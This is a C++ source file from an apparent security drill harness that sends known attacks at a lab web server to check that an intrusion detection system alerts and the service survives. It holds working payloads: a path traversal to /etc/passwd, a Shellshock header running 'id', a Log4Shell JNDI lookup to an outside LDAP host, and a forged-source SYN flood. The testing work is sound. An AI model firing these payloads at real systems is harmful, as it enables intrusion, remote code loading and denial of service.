// Safeguard 2: what the IDS must see and the SOC must hear of. The IDS is passive, so an exploit
// request is not stopped by it; a flood must leave the service answering.
#include <fmt/format.h>

#include "site/drill/attack.h"

namespace gatehouse::drill {
namespace {

using core::Result;

// One request as an attacker's tool sends it, in clear so that the IDS can read it. It took place
// when the web server gave any answer.
Result<Outcome> http_request(const Context& context, std::vector<std::string> options,
                             const std::string& path) {
  std::vector<std::string> command = {"curl", "-sS", "--path-as-is", "--globoff", "--max-time",
                                      "5",    "-o",  "/dev/null",    "-w",        "answered %{http_code}"};
  command.insert(command.end(), options.begin(), options.end());
  command.push_back("http://" + context.target(4) + path);
  GH_TRY(CommandResult result, context.outside(std::move(command)));
  return Outcome{result.ok() && result.says("answered ") && !result.says("answered 000"),
                 brief(result.output)};
}

Result<Outcome> exploit_traversal(const Context& context) {
  return http_request(context, {}, "/cgi-bin/../../../../../../etc/passwd");
}
Result<Outcome> exploit_shellshock(const Context& context) {
  return http_request(context, {"-A", "() { :;}; /bin/bash -c 'id'"}, "/cgi-bin/status");
}
Result<Outcome> exploit_log4shell(const Context& context) {
  return http_request(context, {"-H", "X-Api-Version: ${jndi:ldap://198.51.100.66:1389/a}"}, "/");
}

EventMatch traversal_report(const Context& context) {
  return alert_on_attacker(context, {9000001});
}
EventMatch shellshock_report(const Context& context) {
  return alert_on_attacker(context, {9000004});
}
EventMatch log4shell_report(const Context& context) {
  return alert_on_attacker(context, {9000002});
}

// 3,000 connection requests in about three seconds from forged sources; a client on another
// address must be served in the middle of it.
Result<Outcome> syn_flood(const Context& context) {
  const std::string other = context.lab().machine(context.lab().attacker).other_address(4);
  const std::string script = fmt::format(
      "hping3 -q -n -S -p 80 -c 3000 -i u1000 --rand-source {0} >/dev/null 2>&1 & flood=$!; sleep 1.5;"
      "curl -sS --interface {1} --max-time 5 -o /dev/null -w 'during the flood %{{http_code}}; ' http://{0}/ "
      "|| exit 1;"
      "wait $flood;"
      "curl -sS --interface {1} --max-time 5 -o /dev/null -w 'after it %{{http_code}}' http://{0}/ || exit 1",
      context.target(4), other);
  GH_TRY(CommandResult result, context.outside({"bash", "-c", script}));
  const bool served = result.ok() && !result.says("flood 000") && !result.says("it 000");
  return Outcome{served, brief(result.output)};
}
EventMatch syn_flood_report(const Context& context) {
  return {{}, {"dos.synflood"}, "", context.target(4)};
}

}  // namespace

std::vector<Attack> detection_attacks() {
  return {
      {"exploit-traversal", 2, "ids", "HTTP request that climbs out of the web root", Expect::seen,
       exploit_traversal, traversal_report},
      {"exploit-shellshock", 2, "ids", "HTTP request with a Shellshock header", Expect::seen,
       exploit_shellshock, shellshock_report},
      {"exploit-log4shell", 2, "ids", "HTTP request with a Log4Shell lookup", Expect::seen, exploit_log4shell,
       log4shell_report},
      {"syn-flood", 2, "ids", "hping3 SYN flood, 1000/s from forged sources; the site still answers",
       Expect::works, syn_flood, syn_flood_report},
  };
}

}  // namespace gatehouse::drill
